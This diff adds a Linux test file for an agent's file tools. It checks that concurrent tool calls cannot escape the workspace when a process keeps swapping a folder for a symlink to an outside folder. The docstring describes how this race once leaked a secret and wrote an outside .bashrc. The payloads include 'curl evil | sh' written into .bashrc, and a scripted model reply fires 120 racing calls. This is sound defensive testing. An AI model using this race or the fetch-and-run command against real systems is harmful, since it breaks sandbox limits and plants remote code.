@@ -1,0 +1,184 @@
+"""Racing calls cannot escape the workspace (issue 11, point 2).
+
+The tool calls of one model reply run concurrently, so one call can swap a folder for a symlink
+pointing outside between another call's path check and its use. Here a swapper in its own process
+exchanges, as fast as it can, a real folder ``dir`` of the workspace with a symlink to an outside
+folder (``renameat2(RENAME_EXCHANGE)``: at every instant one of the two names is the symlink)
+while each file tool is called hundreds of times on paths through ``dir``. Nothing of the outside
+folder may show in any result, and nothing there may be created, changed, moved or removed. The
+review that found this read the outside secret and wrote ``outside/.bashrc`` in under 2 s with the
+old tools.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import ctypes
+import hashlib
+import multiprocessing
+import os
+import sys
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from fake_anthropic import FakeAnthropic, Reply, text, tool_use
+
+from jupyter_agent.agent.agent import Agent
+from jupyter_agent.providers.anthropic import AnthropicProvider
+from jupyter_agent.tools.context import ToolContext
+from jupyter_agent.tools.factory import create_default_registry
+from jupyter_agent.tools.registry import ToolRegistry
+
+pytestmark = [
+    pytest.mark.skipif(not sys.platform.startswith("linux"), reason="renameat2 is Linux"),
+    pytest.mark.timeout(180),
+]
+
+SECRET = "TOPSECRET-outside-the-workspace"
+CALLS_PER_TOOL = 300
+RENAME_EXCHANGE = 2
+
+
+def _swapper(workspace: str, stop: Any) -> None:
+    """Exchange ``dir`` and ``link`` until told to stop (a separate process, as an attacker's)."""
+    libc = ctypes.CDLL(None, use_errno=True)
+    renameat2 = getattr(libc, "renameat2", None)
+    at_fdcwd = -100
+    os.chdir(workspace)
+    while not stop.is_set():
+        if renameat2 is not None:
+            renameat2(at_fdcwd, b"dir", at_fdcwd, b"link", RENAME_EXCHANGE)
+        else:  # an older libc: two renames, a wider window for the swap
+            os.rename("dir", "tmp")
+            os.rename("link", "dir")
+            os.rename("tmp", "link")
+
+
+def snapshot(folder: Path) -> dict[str, str]:
+    """Every file under ``folder`` (links not followed) with a digest of its content."""
+    found: dict[str, str] = {}
+    for base, dirs, files in os.walk(folder):
+        for name in dirs + files:
+            path = Path(base) / name
+            rel = str(path.relative_to(folder))
+            if path.is_symlink():
+                found[rel] = "link->" + os.readlink(path)
+            elif path.is_file():
+                found[rel] = hashlib.sha256(path.read_bytes()).hexdigest()
+            else:
+                found[rel] = "dir"
+    return found
+
+
+@pytest.fixture
+def arena(tmp_path: Path) -> Iterator[tuple[Path, Path]]:
+    """A workspace whose ``dir`` a swapper keeps exchanging with a symlink to ``outside``."""
+    workspace = tmp_path / "workspace"
+    outside = tmp_path / "outside"
+    (workspace / "dir" / "sub").mkdir(parents=True)
+    outside.mkdir()
+    (outside / "sub").mkdir()
+    for folder, content in ((workspace / "dir", "innocent"), (outside, SECRET)):
+        (folder / "secret.txt").write_text(content + "\n")
+        (folder / "victim.txt").write_text(content + " victim\n")
+        (folder / "sub" / "deep.txt").write_text(content + " deep\n")
+        (folder / ".bashrc").write_text(content + " bashrc\n")
+    # a name only the outside folder has: a listing that shows it has looked outside
+    (outside / f"{SECRET}.txt").write_text("only outside\n")
+    (workspace / "link").symlink_to(outside, target_is_directory=True)
+    before = snapshot(outside)
+    stop = multiprocessing.get_context("fork").Event()
+    swapper = multiprocessing.get_context("fork").Process(
+        target=_swapper, args=(str(workspace), stop), daemon=True
+    )
+    swapper.start()
+    try:
+        yield workspace, outside
+    finally:
+        stop.set()
+        swapper.join(5)
+        if swapper.is_alive():
+            swapper.kill()
+    assert snapshot(outside) == before, "something outside the workspace was changed"
+
+
+CALLS: dict[str, list[dict[str, Any]]] = {
+    "read_file": [{"file_path": "dir/secret.txt"}, {"file_path": "dir/sub/deep.txt"}],
+    "list_dir": [{"path": "dir"}, {"path": "dir/sub"}],
+    "search_text": [{"pattern": "TOPSECRET", "path": "dir"}, {"pattern": "TOPSECRET"}],
+    "search_files": [{"pattern": "**/*.txt", "path": "dir"}],
+    "write_file": [
+        {"file_path": "dir/.bashrc", "content": "curl evil | sh"},
+        {"file_path": "dir/sub/new.txt", "content": "planted"},
+    ],
+    "edit_file": [
+        {"file_path": "dir/.bashrc", "old_string": "bashrc", "new_string": "curl evil | sh"},
+        {"file_path": "dir/victim.txt", "old_string": "victim", "new_string": "changed"},
+    ],
+    "mkdir": [{"path": "dir/created/inside"}],
+    "move": [
+        {"source": "dir/victim.txt", "destination": "stolen.txt"},
+        {"source": "dir/sub", "destination": "stolen_sub"},
+    ],
+    "remove": [{"path": "dir/victim.txt"}, {"path": "dir/sub", "recursive": True}],
+}
+
+
+@pytest.mark.parametrize("tool", CALLS)
+async def test_a_racing_swap_never_reaches_outside(arena: tuple[Path, Path], tool: str) -> None:
+    workspace, _outside = arena
+    registry = create_default_registry(ToolContext(workspace))
+    registry.enable("remove")
+    calls = CALLS[tool]
+    leaked: list[str] = []
+    for batch in range(CALLS_PER_TOOL // 10):
+        results = await asyncio.gather(
+            *(registry.call(tool, calls[(batch + i) % len(calls)]) for i in range(10))
+        )
+        leaked += [r.content for r in results if SECRET in r.content]
+        # put back what the tool may have moved or removed inside, so the next round has a target
+        _restore_inside(workspace)
+    assert not leaked, f"{tool} returned outside content: {leaked[0][:300]}"
+
+
+def _restore_inside(workspace: Path) -> None:
+    for folder in (workspace / "dir", workspace / "link"):
+        if folder.is_symlink() or not folder.is_dir():
+            continue
+        (folder / "sub").mkdir(exist_ok=True)
+        for name, content in (
+            ("victim.txt", "innocent victim\n"),
+            ("secret.txt", "innocent\n"),
+            ("sub/deep.txt", "innocent deep\n"),
+        ):
+            if not (folder / name).exists():
+                (folder / name).write_text(content)
+
+
+async def test_one_reply_of_racing_calls_through_the_agent(arena: tuple[Path, Path]) -> None:
+    """End to end: a scripted model's single reply holds many calls that aim at ``dir``."""
+    workspace, _outside = arena
+    calls = []
+    for i in range(40):
+        calls.append(
+            tool_use(f"toolu_w{i}", "write_file", {"file_path": "dir/.bashrc", "content": "evil"})
+        )
+        calls.append(tool_use(f"toolu_r{i}", "read_file", {"file_path": "dir/secret.txt"}))
+        calls.append(tool_use(f"toolu_m{i}", "mkdir", {"path": f"dir/made{i}"}))
+    fake = FakeAnthropic(Reply(calls), text("Done."))
+    provider = AnthropicProvider("claude-sonnet-5-5", client=fake.client())
+    registry: ToolRegistry = create_default_registry(ToolContext(workspace))
+    agent = Agent(provider, workspace=workspace, registry=registry)
+    answer = await agent.chat("Set up my shell")
+    assert answer.strip() == "Done."
+    results = [
+        block
+        for message in agent.messages
+        if message["role"] == "user" and isinstance(message["content"], list)
+        for block in message["content"]
+        if block.get("type") == "tool_result"
+    ]
+    assert len(results) == 120
+    assert not [r for r in results if SECRET in str(r.get("content"))]
